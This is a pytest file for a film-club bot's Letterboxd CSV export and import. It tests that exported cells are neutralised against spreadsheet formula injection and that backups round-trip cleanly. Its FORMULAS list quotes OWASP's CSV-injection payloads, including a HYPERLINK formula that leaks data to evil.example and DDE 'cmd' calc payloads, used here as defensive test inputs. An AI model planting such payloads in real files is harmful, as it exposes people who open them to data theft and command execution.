"""/letterboxd export: two files for two purposes (what was done in the club, for Letterboxd's importer; everything,
as a backup), cells no spreadsheet runs as formulas, and our own export read back by /letterboxd import without
duplicating or renaming a film."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from bot.core import letterboxd, reviews, watch
from bot.core.csvfile import FORMULA_STARTS, neutralise_cell, restore_cell, write_csv
from bot.core.errors import UserError
from bot.core.films import build_title_index
from bot.core.letterboxd import ExportScope
from bot.core.search import TitleIndex
from bot.db.database import Database
from tests.catalog_builder import film, load_films
from tests.clocks import StepClock
from tests.conftest import REPO
from tests.letterboxd_files import LIST_HEADER, RATINGS_HEADER, csv_bytes, import_file, zip_bytes

GUILD, ALICE, BOB = 1, 11, 12
#: What a member can type that a spreadsheet would run (OWASP's CSV injection examples).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the trailer")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
async def ids(db: Database, tmp_path: Path) -> dict[str, int]:
    films = [
        film("the-last-waltz", title="The Last Waltz", year=1978),
        film("plus-one", title="+1", year=2013),
        film("minus", title="-Ism", year=2001),
        film("woodstock", title="Woodstock", year=1970),
        film("monterey-pop", title="Monterey Pop", year=1968),
        film("round-midnight", title="'Round Midnight", year=1986),
    ]
    return await load_films(db, tmp_path / "cat", films)


@pytest.fixture
async def index(db: Database, ids: dict[str, int]) -> TitleIndex:
    del ids
    return await build_title_index(db)


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


async def club_and_letterboxd(db: Database, clock: StepClock, index: TitleIndex, ids: dict[str, int]) -> None:
    """Alice reviews two films and marks one seen in the club, and imports a rating and a seen film from Letterboxd."""
    await reviews.post_review(
        db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["plus-one"], stars=4, body=FORMULAS[0]
    )
    await reviews.post_review(
        db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["minus"], stars=2.5, body="- loud\n- long"
    )
    await watch.mark_seen(db, clock, GUILD, ALICE, ids["monterey-pop"])
    export = {
        "ratings.csv": csv_bytes(RATINGS_HEADER, "2025-05-01,The Last Waltz,1978,u,4.5"),
        "watched.csv": csv_bytes(LIST_HEADER, "2024-01-01,Woodstock,1970,u", "2024-02-01,'Round Midnight,1986,u"),
    }
    await import_file(db, index, "letterboxd.zip", zip_bytes(export), guild_id=GUILD, user_id=ALICE, clock=clock)


async def test_the_club_export_is_for_letterboxd_and_the_backup_holds_everything(
    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock
) -> None:
    await club_and_letterboxd(db, clock, index, ids)
    club = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=ExportScope.CLUB)
    assert club.filename == "filmclub-for-letterboxd-2026-03-01.csv"
    assert {row["Title"] for row in read(club.data)} == {"'+1", "'-Ism", "Monterey Pop"}
    assert list(read(club.data)[0]) == [
        "Title",
        "Year",
        "Rating",
        "WatchedDate",
        "Review",
        "LetterboxdURI",
        "tmdbID",
        "imdbID",
    ]

    backup = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=ExportScope.EVERYTHING)
    assert backup.filename == "filmclub-backup-2026-03-01.csv"
    rows = {row["Title"]: row for row in read(backup.data)}
    assert {title: row["Source"] for title, row in rows.items()} == {
        "'+1": "club",
        "'-Ism": "club",
        "Monterey Pop": "club",
        "The Last Waltz": "letterboxd",
        "Woodstock": "letterboxd",
        "'Round Midnight": "letterboxd",
    }
    assert (rows["The Last Waltz"]["Rating"], rows["Woodstock"]["WatchedDate"]) == ("4.5", "2024-01-01")
    assert backup.rows == 6


async def test_a_member_with_only_letterboxd_entries_is_pointed_to_the_backup(
    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock
) -> None:
    del ids
    ratings = csv_bytes(RATINGS_HEADER, "2025-05-01,The Last Waltz,1978,u,4.5")
    await import_file(db, index, "ratings.csv", ratings, guild_id=GUILD, user_id=BOB, clock=clock)
    with pytest.raises(UserError, match="Everything you have here came from Letterboxd"):
        await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=BOB)
    backup = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=BOB, scope=ExportScope.EVERYTHING)
    assert backup.rows == 1


@pytest.mark.parametrize("scope", list(ExportScope))
async def test_no_exported_cell_is_a_formula(
    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock, scope: ExportScope
) -> None:
    await club_and_letterboxd(db, clock, index, ids)
    films = ["the-last-waltz", "woodstock", "monterey-pop", "round-midnight", "plus-one", "minus"]
    for body, slug in zip(FORMULAS, films, strict=True):
        await reviews.post_review(db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids[slug], stars=3, body=body)
    exported = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=scope)
    text = exported.data.decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    stored = {body.strip() for body in FORMULAS}  # review text is stored stripped; titles and text both reach cells
    assert {restore_cell(cell) for cell in cells} >= stored | {"+1", "-Ism", "'Round Midnight"}
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'Round Midnight" in cells  # a quote that is part of the title is left alone
    # every cell quoted: each record starts with a quote and every separator sits between quotes
    assert all(line.startswith('"') for line in re.split(r'(?<=")\n', text) if line)


def test_neutralising_cells_follows_owasp_and_is_undone_on_import() -> None:
    for formula in FORMULAS:
        assert neutralise_cell(formula) == "'" + formula
        assert restore_cell(neutralise_cell(formula)) == formula
    for plain in ["The Last Waltz", "'Round Midnight", "1978", "4.5", "", " =1+1", "Stop Making Sense"]:
        assert restore_cell(neutralise_cell(plain)) == plain
    assert neutralise_cell(None) == ""
    assert write_csv(["A", "B"], [["=1+1", 2], [None, "x,y"]]) == b'"A","B"\n"\'=1+1","2"\n"","x,y"\n'


async def test_our_own_export_imports_back_without_duplicating_or_renaming_a_film(
    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock
) -> None:
    await club_and_letterboxd(db, clock, index, ids)
    await reviews.post_review(
        db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["woodstock"], stars=3, body="@here\t-mud-"
    )
    backup = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=ExportScope.EVERYTHING)

    def state(user: int) -> str:
        return f"SELECT film_id, rating, body FROM reviews WHERE user_id = {user} ORDER BY film_id"

    before = [tuple(r) for r in await db.fetchall(state(ALICE))]
    seen_before = (await watch.seen_by(db, GUILD, [ALICE]))[ALICE]
    again = await import_file(db, index, backup.filename, backup.data, guild_id=GUILD, user_id=ALICE, clock=clock)
    assert again.files == ("a filmclub export",)
    assert (again.matched, again.added, again.skipped, again.changed) == (6, (), (), False)
    assert [tuple(r) for r in await db.fetchall(state(ALICE))] == before
    assert (await watch.seen_by(db, GUILD, [ALICE]))[ALICE] == seen_before

    restored = await import_file(db, index, backup.filename, backup.data, guild_id=GUILD, user_id=BOB, clock=clock)
    assert (restored.added, restored.skipped) == ((), ())
    assert [r[1:] for r in await db.fetchall(state(BOB))] == [r[1:] for r in before]  # same films, same text
    assert (await watch.seen_by(db, GUILD, [BOB]))[BOB] == seen_before


async def test_a_backup_keeps_the_spoiler_flag_so_a_restored_review_stays_hidden(
    db: Database, index: TitleIndex, ids: dict[str, int], clock: StepClock
) -> None:
    await reviews.post_review(
        db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["woodstock"], stars=4, body="Jimi closes it", spoiler=True
    )
    await reviews.post_review(db, clock, guild_id=GUILD, user_id=ALICE, film_id=ids["minus"], stars=2, body="Loud.")
    club = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=ExportScope.CLUB)
    assert "Spoiler" not in read(club.data)[0]  # Letterboxd's importer has no such column
    backup = await letterboxd.export_csv(db, clock, guild_id=GUILD, user_id=ALICE, scope=ExportScope.EVERYTHING)
    assert {row["Title"]: row["Spoiler"] for row in read(backup.data)} == {"Woodstock": "yes", "'-Ism": ""}

    await import_file(db, index, backup.filename, backup.data, guild_id=GUILD, user_id=BOB, clock=clock)
    restored = await db.fetchall("SELECT film_id, spoiler FROM reviews WHERE user_id = ? ORDER BY film_id", (BOB,))
    assert {int(f): bool(s) for f, s in restored} == {ids["woodstock"]: True, ids["minus"]: False}
    again = await import_file(db, index, backup.filename, backup.data, guild_id=GUILD, user_id=BOB, clock=clock)
    assert not again.changed

    rows = [{column: cell for column, cell in row.items() if column != "Spoiler"} for row in read(backup.data)]
    older = write_csv(list(rows[0]), [list(row.values()) for row in rows])  # a backup made before the column
    await import_file(db, index, backup.filename, older, guild_id=GUILD, user_id=ALICE + 100, clock=clock)
    assert await db.fetchval("SELECT count(*) FROM reviews WHERE user_id = ?", (ALICE + 100,)) == 2


def test_every_csv_the_bot_writes_goes_through_write_csv() -> None:
    writers = [
        path.relative_to(REPO).as_posix()
        for folder in ("bot", "cogs")
        for path in (REPO / folder).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["bot/core/csvfile.py"]
